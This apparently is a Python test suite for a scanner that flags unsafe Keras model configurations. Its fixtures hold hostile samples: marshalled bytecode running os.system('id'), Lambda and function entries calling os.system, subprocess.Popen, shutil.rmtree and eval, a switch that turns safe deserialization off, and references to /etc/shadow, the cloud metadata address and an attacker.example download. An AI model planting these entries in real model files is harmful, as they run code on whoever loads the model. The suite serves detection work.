import base64
import json
import marshal
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from garrison.artifacts import keras_config
from garrison.core.errors import LimitExceeded, Malformed
from garrison.core.facts import EmbeddedCode, Import, Reference
from tests.support import findings_of, worst


def layer(class_name: str, config: "dict[str, Any] | None" = None, **more: Any) -> dict[str, Any]:
    """As Keras 3 writes it."""
    given = {"module": "keras.layers", "registered_name": None, **more}
    return {"class_name": class_name, "config": {"name": class_name.lower(), **(config or {})}, **given}


def model(*layers: dict[str, Any], **more: Any) -> dict[str, Any]:
    first = layer("InputLayer", {"batch_shape": [None, 10], "dtype": "float32"})
    config = {"name": "functional", "trainable": True, "layers": [first, *layers], "input_layers": [["in", 0, 0]]}
    return {"module": "keras.src.models.functional", "class_name": "Functional", "config": config, **more}


def findings(document: object) -> "list[Any]":
    return findings_of(json.dumps(document).encode(), "config.json")


def code(source: str) -> str:
    return base64.encodebytes(marshal.dumps(compile(source, "<lambda>", "eval"))).decode()


def function(name: str, module: str = "builtins", registered: "str | None" = None) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": registered or name}


HONEST = model(
    layer("Dense", {"units": 4, "activation": "relu", "kernel_initializer": layer("GlorotUniform", {"seed": None})}),
    layer("Activation", {"activation": function("relu")}),
    layer("Activation", {"activation": function("gelu", "keras.src.activations.activations")}),
    layer("StringLookup", {"vocabulary": None, "max_tokens": 10}),
    layer("StringLookup", {"vocabulary": ["a", "/etc/passwd"]}),
    layer("TextVectorization", {"vocabulary": "vocabulary.txt", "standardize": "lower_and_strip_punctuation"}),
    layer("Lambda", {"function": function("relu", "keras.ops"), "output_shape": [10], "arguments": {}}),
    layer("Lambda", {"function": "relu", "function_type": "function", "module": None, "output_shape_type": "raw"}),
    layer("TFOpLambda", {"function": "math.reduce_sum"}, module=None),
    layer("Bidirectional", {"layer": layer("LSTM", {"units": 3}, module="keras.src.layers.rnn.lstm")}),
    build_config={"input_shape": [None, 10]},
    compile_config={
        "optimizer": layer("Adam", {"learning_rate": 0.1}, module="keras.src.optimizers.adam"),
        "loss": function("mean_squared_error", "keras.src.losses.losses"),
        "metrics": ["accuracy", layer("AUC", module="keras.metrics")],
    },
)
KERAS_2 = {
    "class_name": "Sequential",
    "config": [
        {
            "class_name": "Dense",
            "config": {"name": "d", "units": 3, "activation": "relu"},
            "inbound_nodes": [[["in", 0, 0, {}]]],
        },
        {"class_name": "Custom>Adam", "config": {"learning_rate": 0.1}},
    ],
    "optimizer_config": {"class_name": "Adam", "registered_name": "Custom>Adam", "config": {"name": "Adam"}},
}


@pytest.mark.parametrize("document", [HONEST, KERAS_2], ids=["Keras 3", "Keras 2"])
def test_honest_configurations_have_no_finding(document: dict[str, Any]) -> None:
    assert findings(document) == []


BYTECODE = code("__import__('os').system('id')")
POPEN = layer("Popen", module="subprocess")
HOSTILE = {
    "Lambda of Keras 2": layer("Lambda", {"function": [BYTECODE, None, None], "function_type": "lambda"}),
    "Lambda of Keras 3, value": layer(
        "Lambda", {"function": {"class_name": "__lambda__", "config": {"value": [BYTECODE, None, None]}}}
    ),
    "Lambda of Keras 3, code": layer(
        "Lambda", {"function": {"class_name": "__lambda__", "config": {"code": BYTECODE, "closure": None}}}
    ),
    "Lambda with base64 that has other signs in it": layer(
        "Lambda", {"function": ["!" + BYTECODE.replace("A", "*A", 3)]}
    ),
    "Lambda with bytes as characters": layer(
        "Lambda", {"function": [marshal.dumps(compile("__import__('os')", "é", "eval")).decode("latin-1"), None, None]}
    ),
    "Lambda whose output shape is code": layer(
        "Lambda", {"function": "relu", "output_shape": [BYTECODE, None, None], "output_shape_type": "lambda"}
    ),
    "Lambda with a function of a module": layer(
        "Lambda", {"function": "system", "function_type": "function", "module": "os"}
    ),
    "Lambda with a function object": layer("Lambda", {"function": function("system", "os")}),
    "Lambda with source": layer("Lambda", {"function": "__import__('os').system('id')"}),
    "code outside of any Lambda": {"class_name": "__lambda__", "config": {"value": BYTECODE}},
    "class of a module": POPEN,
    "function as a layer": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"},
    "eval of builtins": layer("Activation", {"activation": function("eval")}),
    "name in registered_name": layer("nothing", module="shutil", registered_name="rmtree"),
    "type specification": {"class_name": "__typespec__", "module": "os", "spec_name": "system", "config": ["id"]},
    "safe mode turned off": layer("enable_unsafe_deserialization", module="keras.config"),
    "safe mode's flag": layer("set_global_attribute", module="keras.src.backend.common.global_state"),
    "load_model": {"module": "keras.saving", "class_name": "function", "config": "load_model"},
    "operator that writes": layer("TFOpLambda", {"function": "io.write_file"}, module=None),
    "module in the settings": layer("Dense", {"units": 1, "fn_module": "subprocess"}),
}


def _deep(document: dict[str, Any]) -> dict[str, Any]:
    for _ in range(200):
        document = layer("TimeDistributed", {"layer": document})
    return model(document)


@pytest.mark.parametrize("document", HOSTILE.values(), ids=HOSTILE.keys())
def test_what_runs_code_is_critical_wherever_it_stands(document: dict[str, Any]) -> None:
    for whole in (
        model(document),
        model(layer("Dense", {"kernel_initializer": document})),
        model(compile_config={"optimizer": "adam", "loss": {"out": document}, "metrics": [[document]]}),
        model(build_config={"shapes": document}),
        model(layer("Wrapper", {"inner": json.dumps(document)})),
        _deep(document),
    ):
        assert worst(findings(whole)) == "critical", whole


def test_findings_name_the_layer_and_what_it_calls() -> None:
    (found,) = findings(model(layer("Popen", {"name": "evil", "args": ["id"]}, module="subprocess")))
    assert found.place == "layer 'evil'"
    assert "subprocess.Popen('id')" in found.message


def test_arguments_of_the_call_graph_are_shown() -> None:
    called = {**function("system", "os"), "inbound_nodes": [{"args": ["touch /tmp/x"], "kwargs": {}}]}
    assert "touch /tmp/x" in " ".join(str(f) for f in keras_config.walk(model(called)) if isinstance(f, Import))


@pytest.mark.parametrize(
    ("document", "rule", "severity"),
    [
        (layer("StringLookup", {"vocabulary": "/etc/passwd"}), "escaping-reference", "high"),
        (layer("IntegerLookup", {"vocabulary": "../../secret"}), "escaping-reference", "high"),
        (
            layer("TextVectorization", {"vocabulary": "http://169.254.169.254/x"}),
            "cloud-metadata-reference",
            "critical",
        ),
        (layer("StringLookup", {"vocabulary": "https://attacker.example/v"}), "remote-reference", "high"),
        (layer("TextVectorization", {"idf_weights": "/etc/shadow"}), "escaping-reference", "high"),
        (layer("TFSMLayer", {"filepath": "/tmp/other"}), "escaping-reference", "high"),
        (layer("TFSMLayer", {"filepath": "other_model"}), "remote-reference", "medium"),
        (layer("TorchModuleWrapper", {"module": {"class_name": "__bytes__", "config": {}}}), "embedded-code", "high"),
        (layer("Lambda", {"function": [code("x + 1"), None, None]}), "embedded-code", "high"),
        (layer("Lambda", {"function": "scale", "module": "__main__"}), "lambda-function", "high"),
        (layer("MyLayer", module="authors_package.layers"), "unknown-import", "medium"),
        (layer("MyLayer", module="__main__", registered_name="mine>MyLayer"), "custom-object", "low"),
        (layer("MyLayer", module=None, registered_name="mine>MyLayer"), "custom-object", "low"),
        (layer("Activation", {"activation": function("my_activation")}), "custom-object", "low"),
        (
            layer("KerasLayer", {"handle": "https://tfhub.dev/x/1"}, module="tensorflow_hub"),
            "remote-reference",
            "medium",
        ),
    ],
)
def test_what_is_less_than_running_code(document: dict[str, Any], rule: str, severity: str) -> None:
    found = [(finding.rule, finding.severity) for finding in findings(model(document))]
    assert (rule, severity) in found


def test_a_download_is_found_with_its_address() -> None:
    call = {
        "module": "keras.utils",
        "class_name": "function",
        "config": "get_file",
        "registered_name": "get_file",
        "inbound_nodes": [{"args": ["x", "https://attacker.example/shell"], "kwargs": {}}],
    }
    targets = [fact.target for fact in keras_config.walk(model(call)) if isinstance(fact, Reference)]
    assert targets == ["https://attacker.example/shell"]
    assert worst(findings(model(call))) == "critical"


def test_bytecode_is_stated_with_its_names() -> None:
    (fact,) = [f for f in keras_config.walk(HOSTILE["Lambda of Keras 2"]) if isinstance(f, EmbeddedCode)]
    assert (fact.language, fact.trigger) == ("python-bytecode", "use")
    assert "system" in fact.names


def test_a_configuration_without_end_is_bounded() -> None:
    with pytest.raises(LimitExceeded):
        list(keras_config.walk([[] for _ in range(600_000)]))


def test_what_is_no_json_is_malformed() -> None:
    for text in ("", "{", "[" * 100_000, b"\xff\xfe\x00"):
        with pytest.raises(Malformed):
            keras_config.parse(text)


_KEYS = ["class_name", "config", "module", "registered_name", "function", "name", "vocabulary", "filepath", "value"]
_KEYS += ["inbound_nodes", "fn", "spec_name", "output_shape", "x_module", "handle", "code"]
_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8) | st.sampled_from(["os", "Lambda", "function"]),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from(_KEYS),
            inner,
            max_size=6,
        )
    ),
    max_leaves=30,
)


@settings(max_examples=300, deadline=None)
@given(_VALUES)
def test_any_document_can_be_walked(document: object) -> None:
    for fact in keras_config.walk(document):
        assert fact.__class__.__name__ in ("Import", "EmbeddedCode", "Reference")
